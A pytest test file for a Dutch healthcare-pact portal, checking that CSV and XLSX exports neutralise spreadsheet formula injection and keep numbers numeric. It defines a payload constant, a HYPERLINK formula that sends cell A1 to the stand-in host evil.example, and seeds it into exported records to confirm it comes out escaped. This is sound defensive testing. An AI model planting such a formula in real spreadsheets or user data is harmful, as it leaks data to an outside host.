"""Every CSV and XLSX the portal writes goes through zorgpact.core.listing's one writer, which neutralises formulas
(OWASP CSV injection) and keeps numbers numbers (issue 15, point 5)."""

import csv
import io
import re
from pathlib import Path

import pytest

from tests.koplopers.test_catalogue import make_koploper
from tests.pacts.factories import ActionFactory, IndicatorFactory, MeasurementFactory, PactFactory
from tests.zorgpact.factories import ThemeFactory

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"klik")'
ROOT = Path(__file__).resolve().parents[2]


def csv_cells(response) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(response.content.decode("utf-8-sig"))) for cell in row]


def assert_inert(cells):
    texts = [c for c in cells if isinstance(c, str) and "HYPERLINK" in c]
    assert texts, "the evil text is in the export"
    assert all(c == "'" + EVIL for c in texts), texts


@pytest.fixture
def evil_everywhere(pact):
    theme = ThemeFactory(name=EVIL, slug="evil")
    pact.themes.add(theme)
    evil_pact = PactFactory(name=EVIL, slug="evil-pact")
    evil_pact.themes.add(theme)
    action = ActionFactory(pact=pact, title=EVIL, status="running")
    MeasurementFactory(indicator=IndicatorFactory(action=action, name="Saldo", target=-3, baseline=-1), value=-5)
    make_koploper(EVIL, status="koploper", themes=[theme])
    return pact


def test_workspace_csv_is_inert_and_keeps_negative_numbers(client, national_team, evil_everywhere):
    client.force_login(national_team)

    def rows(level):
        response = client.get(f"/werkruimte/pacten/{evil_everywhere.slug}/actieagenda-{level}.csv")
        return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))

    assert rows("acties")[1][0] == "'" + EVIL
    indicators, measurements = rows("indicatoren"), rows("metingen")
    assert indicators[1][0] == measurements[1][0] == "'" + EVIL
    assert (indicators[1][4], indicators[1][5], measurements[1][3]) == ("-1.00", "-3.00", "-5.00")  # not escaped


def test_workspace_xlsx_has_a_string_cell_not_a_formula(client, national_team, evil_everywhere):
    from openpyxl import load_workbook

    client.force_login(national_team)
    response = client.get(f"/werkruimte/pacten/{evil_everywhere.slug}/actieagenda.xlsx")
    workbook = load_workbook(io.BytesIO(response.content))
    for sheet in workbook:
        assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)
    for name in ("Acties", "Indicatoren", "Metingen"):
        title = workbook[name].cell(row=2, column=1)
        assert (title.data_type, title.value) == ("s", "'" + EVIL)
    value = workbook["Metingen"].cell(row=2, column=4)
    assert (value.data_type, value.value) == ("n", -5)


def test_the_exported_title_imports_back_as_it_was(client, national_team, evil_everywhere, other_pact):
    from django.core.files.uploadedfile import SimpleUploadedFile

    from pacts.models import Action

    client.force_login(national_team)
    for fmt in ("csv", "xlsx"):
        content = client.get(f"/werkruimte/pacten/{evil_everywhere.slug}/actieagenda.{fmt}").content
        url = f"/werkruimte/pacten/{other_pact.slug}/importeren/"
        assert client.post(url, {"file": SimpleUploadedFile(f"a.{fmt}", content)}).status_code == 200
        assert client.post(url, {"confirm": "1"}).status_code == 302
        assert list(Action.objects.filter(pact=other_pact).values_list("title", flat=True)) == [EVIL]


@pytest.mark.parametrize("url", ["/regionale-zorgpacten/export.csv", "/koplopers/export.csv"])
def test_public_lists_are_inert(client, evil_everywhere, url):
    assert_inert(csv_cells(client.get(url)))


@pytest.mark.parametrize("table", ["themes"])
def test_dashboard_tables_are_inert(client, national_team, evil_everywhere, table):
    client.force_login(national_team)
    assert_inert(csv_cells(client.get(f"/volgspot/csv/{table}/")))


def test_no_other_code_writes_csv_or_xlsx():
    """The one writer is zorgpact/core/listing.py: anything else writing CSV or XLSX would skip the escaping."""
    pattern = re.compile(r"csv\.writer|csv\.DictWriter|openpyxl|xlsxwriter|Workbook\(|text/csv")
    offenders = []
    for path in ROOT.glob("*/**/*.py"):
        relative = path.relative_to(ROOT).as_posix()
        if relative.startswith((".venv/", "node_modules/", "tests/")) or relative in (
            "zorgpact/core/listing.py",
            "zorgpact/core/sheetreader.py",
        ):
            continue
        if pattern.search(path.read_text(encoding="utf-8")):
            offenders.append(relative)
    assert offenders == []
